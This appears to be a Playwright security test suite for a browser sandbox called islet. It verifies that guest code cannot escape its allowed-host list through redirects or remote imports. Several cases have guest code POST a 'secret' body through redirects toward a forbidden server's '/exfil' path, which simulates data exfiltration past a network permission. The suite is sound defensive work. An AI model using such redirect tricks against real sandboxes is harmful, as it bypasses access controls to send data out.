// Hostile cases: a guest using redirects to reach a host outside permissions.net, in Chromium.
// Real servers on 127.0.0.1 record every request (preflights included); "allowed" is the only
// entry in permissions.net and "forbidden" must see nothing. Never delete one; add new IDs.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type RecordingServer, startRecordingServer } from "../../packages/core/src/test/recording_server.ts";
import { expect, type HarnessWindow, test } from "../fixtures.ts";

let allowed: RecordingServer;
let forbidden: RecordingServer;
let allowedTls: RecordingServer;
let forbiddenTls: RecordingServer;
let certDir: string;

// Remote modules must be https: a throwaway self-signed certificate for 127.0.0.1.
test.use({ ignoreHTTPSErrors: true });

test.beforeAll(async () => {
  certDir = mkdtempSync(join(tmpdir(), "islet-e2e-tls-"));
  const key = join(certDir, "key.pem");
  const cert = join(certDir, "cert.pem");
  execFileSync(
    "openssl",
    [
      "req",
      "-x509",
      "-newkey",
      "rsa:2048",
      "-nodes",
      "-keyout",
      key,
      "-out",
      cert,
      "-days",
      "1",
      "-subj",
      "/CN=127.0.0.1",
      "-addext",
      "subjectAltName=IP:127.0.0.1",
    ],
    { stdio: "ignore" },
  );
  const tls = { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") };
  allowed = await startRecordingServer();
  forbidden = await startRecordingServer();
  allowedTls = await startRecordingServer({ tls });
  forbiddenTls = await startRecordingServer({ tls });
});
test.afterAll(async () => {
  await Promise.all([allowed, forbidden, allowedTls, forbiddenTls].map((s) => s?.close()));
  rmSync(certDir, { recursive: true, force: true });
});
test.beforeEach(() => {
  for (const s of [allowed, forbidden, allowedTls, forbiddenTls]) s.requests.length = 0;
});

const redirect = (from: RecordingServer, status: number, to: string) =>
  `${from.origin}/redirect?status=${status}&to=${encodeURIComponent(to)}`;

/** Runs `code` (an async function body) in a fresh sandbox with `permissions`; its result or error. */
async function inSandbox(
  harness: import("@playwright/test").Page,
  permissions: Record<string, unknown>,
  code: string,
): Promise<{ ok?: unknown; err?: [string, string] }> {
  const out = await harness.evaluate(
    async ({ permissions, code }) => {
      const w = window as unknown as HarnessWindow;
      const sb = await w.islet.createSandbox({ permissions });
      try {
        return await sb.eval(
          `(async () => { ${code} })().then((v) => ({ ok: v }), (e) => ({ err: [e && e.name, String(e && e.message)] }))`,
        );
      } finally {
        sb.terminate();
      }
    },
    { permissions, code },
  );
  expect(out).toMatchObject({ ok: true });
  return (out as { value: { ok?: unknown; err?: [string, string] } }).value;
}

// SEC-F1: a redirect from the allowed server to another port of the same host, with every redirect
// status, a POST body and a guest header (so Chromium preflights): the forbidden server sees nothing.
for (const status of [301, 302, 303, 307, 308]) {
  test(`SEC-F1 a ${status} from the allowed server never reaches the forbidden one`, async ({ harness }) => {
    const r = await inSandbox(
      harness,
      { net: [`127.0.0.1:${allowed.port}`] },
      `const r = await fetch(${JSON.stringify(redirect(allowed, status, `${forbidden.origin}/exfil`))}, {
         method: "POST", body: "secret", headers: { "x-guest": "1", "content-type": "application/json" } });
       return r.status;`,
    );
    expect(r.err?.[0]).toBe("TypeError");
    expect(r.err?.[1]).toContain("redirects are not followed in a browser unless permissions.net is true");
    expect(r.err?.[1]).toContain(`["127.0.0.1:${allowed.port}"]`);
    // The allowed server got the preflight and the POST; the forbidden one nothing at all.
    expect(allowed.requests.map((q) => q.method)).toEqual(["OPTIONS", "POST"]);
    expect(forbidden.requests).toEqual([]);
  });
}

// SEC-F2: a redirect back to the allowed server itself is refused too (its target cannot be seen
// first), and an allowed → forbidden → allowed chain stops at the first hop.
test("SEC-F2 no redirect is followed while net is a list, even one that would end on the allowed host", async ({
  harness,
}) => {
  const back = redirect(forbidden, 302, `${allowed.origin}/back`);
  const r = await inSandbox(
    harness,
    { net: [`127.0.0.1:${allowed.port}`] },
    `const out = [];
     for (const url of [${JSON.stringify(redirect(allowed, 302, `${allowed.origin}/same`))}, ${JSON.stringify(redirect(allowed, 307, back))}]) {
       try { out.push((await fetch(url)).status) } catch (e) { out.push(e.name) }
     }
     return out;`,
  );
  expect(r.ok).toEqual(["TypeError", "TypeError"]);
  expect(allowed.requests.map((q) => q.url.split("?")[0])).toEqual(["/redirect", "/redirect"]);
  expect(forbidden.requests).toEqual([]);
});

// SEC-F3: redirect "manual" gives an opaque-redirect response and "error" a TypeError, per Fetch.
test('SEC-F3 redirect: "manual" and "error" follow the Fetch standard and contact nothing else', async ({
  harness,
}) => {
  const url = redirect(allowed, 302, `${forbidden.origin}/x`);
  const r = await inSandbox(
    harness,
    { net: [`127.0.0.1:${allowed.port}`] },
    `const m = await fetch(${JSON.stringify(url)}, { redirect: "manual" });
     let error; try { await fetch(${JSON.stringify(url)}, { redirect: "error" }); } catch (e) { error = e.name + ": " + e.message; }
     return [m.type, m.status, m.url, [...m.headers].length, m.body, error];`,
  );
  expect(r.ok).toEqual([
    "opaqueredirect",
    0,
    url,
    0,
    null,
    expect.stringMatching(/^TypeError: .*redirect mode is "error"/),
  ]);
  expect(allowed.requests).toHaveLength(2);
  expect(forbidden.requests).toEqual([]);
});

// SEC-F4: a remote import() that redirects to a forbidden https server is refused before it is followed.
test("SEC-F4 a remote import() that redirects never reaches the forbidden server", async ({ harness }) => {
  const main = `const direct = await import(${JSON.stringify(`${allowedTls.origin}/mod.js`)});
     let redirected;
     try { await import(${JSON.stringify(redirect(allowedTls, 302, `${forbiddenTls.origin}/mod.js`))}); redirected = "imported"; }
     catch (e) { redirected = e.name + ": " + e.message; }
     export const out = [direct.where, redirected];`;
  const r = await harness.evaluate(
    async ({ main, port }) => {
      const w = window as unknown as HarnessWindow;
      const sb = await w.islet.createSandbox({ permissions: { net: [`127.0.0.1:${port}`] } });
      try {
        return await sb.run({ files: { "main.js": main }, entry: "main.js" });
      } finally {
        sb.terminate();
      }
    },
    { main, port: allowedTls.port },
  );
  expect(r).toMatchObject({
    ok: true,
    exports: {
      out: [allowedTls.origin, expect.stringMatching(/^TypeError: .*redirects are not followed in a browser/)],
    },
  });
  expect(allowedTls.requests.map((q) => q.url.split("?")[0])).toEqual(["/mod.js", "/redirect"]);
  expect(forbiddenTls.requests).toEqual([]);
});

// SEC-F5: with net: true every host is allowed, so the browser may follow (the control for SEC-F1).
test("SEC-F5 with net: true redirects are followed by the browser", async ({ harness }) => {
  const r = await inSandbox(
    harness,
    { net: true },
    `const r = await fetch(${JSON.stringify(redirect(allowed, 307, `${forbidden.origin}/landed`))}, { method: "POST", body: "hi" });
     return [r.status, r.redirected, r.url, await r.text()];`,
  );
  expect(r.ok).toEqual([200, true, `${forbidden.origin}/landed`, "ok POST /landed"]);
  expect(forbidden.requests).toMatchObject([{ method: "POST", body: "hi" }]);
});

// SEC-F6: 25 concurrent fetches to one undecided host ask the page once.
test("SEC-F6 concurrent fetches to one undecided host open one prompt", async ({ harness }) => {
  const out = await harness.evaluate(async (url) => {
    const w = window as unknown as HarnessWindow;
    const asked: unknown[] = [];
    const sb = await w.islet.createSandbox({
      permissions: { net: [] as string[] },
      onPermissionRequest: async (req) => {
        asked.push(req);
        await new Promise((resolve) => setTimeout(resolve, 50));
        return true;
      },
    });
    const r = await sb.eval(
      `Promise.all(Array.from({ length: 25 }, (_, i) => fetch(${JSON.stringify(url)} + "?" + i).then((r) => r.status)))`,
    );
    sb.terminate();
    return { r, asked };
  }, `${allowed.origin}/p`);
  expect(out.r).toMatchObject({ ok: true, value: Array(25).fill(200) });
  expect(out.asked).toEqual([expect.objectContaining({ kind: "net", target: `127.0.0.1:${allowed.port}` })]);
  expect(allowed.requests).toHaveLength(25);
});

// SEC-F7: bodies never read release their rids when the call ends; an interrupted call aborts
// the response it was reading.
test("SEC-F7 unread bodies are released at the end of each call; an interrupt aborts the fetch in flight", async ({
  harness,
}) => {
  const out = await harness.evaluate(
    async ({ origin, port }) => {
      const w = window as unknown as HarnessWindow;
      const sb = await w.islet.createSandbox({ permissions: { net: [`127.0.0.1:${port}`] }, limits: { cpuMs: 200 } });
      const statuses: unknown[] = [];
      for (let i = 0; i < 8; i++) statuses.push(await sb.eval(`fetch("${origin}/unread${i}").then((r) => r.status)`));
      const left = await sb.resources();
      const interrupted = await sb.eval(
        `fetch("${origin}/slow?ms=20000").then((r) => { r.text(); setTimeout(() => { for (;;) {} }, 0); }); 0`,
      );
      const after = await sb.resources();
      sb.terminate();
      return { statuses, left, interrupted, after };
    },
    { origin: allowed.origin, port: allowed.port },
  );
  expect(out.statuses).toEqual(Array(8).fill(expect.objectContaining({ ok: true, value: 200 })));
  expect(out.left).toEqual([]);
  expect(out.interrupted).toMatchObject({ ok: false, error: { name: "Interrupted" } });
  expect(out.after).toEqual([]);
  await expect
    .poll(() => allowed.requests.filter((q) => q.url.startsWith("/slow")).map((q) => q.aborted))
    .toEqual([true]);
});

// SEC-F8: terminate() and restart() cancel the page's pending prompts (their signal aborts), and a
// prompt's late answer lets nothing through.
test("SEC-F8 terminate() and restart() cancel pending permission prompts", async ({ harness }) => {
  const out = await harness.evaluate(async (url) => {
    const w = window as unknown as HarnessWindow;
    const signals: AbortSignal[] = [];
    const answers: ((allowed: boolean) => void)[] = [];
    const waitFor = async (n: number) => {
      for (let i = 0; i < 200 && signals.length < n; i++) await new Promise((r) => setTimeout(r, 25));
    };
    const sb = await w.islet.createSandbox({
      permissions: { net: [] as string[] },
      onPermissionRequest: (_req, { signal }) => {
        signals.push(signal);
        return new Promise<boolean>((resolve) => answers.push(resolve));
      },
    });
    const first = sb.eval(`fetch(${JSON.stringify(url)}).then((r) => r.status)`);
    await waitFor(1);
    const beforeRestart = signals[0]?.aborted;
    const restarted = sb.restart();
    const firstResult = await first;
    await restarted;
    const second = sb.eval(`fetch(${JSON.stringify(url)}).then((r) => r.status)`);
    await waitFor(2);
    const beforeTerminate = signals[1]?.aborted;
    sb.terminate();
    const secondResult = await second;
    // Answering the stale dialogs now reaches nothing.
    for (const answer of answers) answer(true);
    return {
      asked: signals.length,
      beforeRestart,
      beforeTerminate,
      aborted: signals.map((s) => s.aborted),
      firstResult,
      secondResult,
    };
  }, `${allowed.origin}/prompted`);
  expect(out).toMatchObject({ asked: 2, beforeRestart: false, beforeTerminate: false, aborted: [true, true] });
  expect(out.firstResult).toMatchObject({ ok: false, error: { name: "Terminated" } });
  expect(out.secondResult).toMatchObject({ ok: false, error: { name: "Terminated" } });
  await new Promise((r) => setTimeout(r, 200));
  expect(allowed.requests).toEqual([]);
});
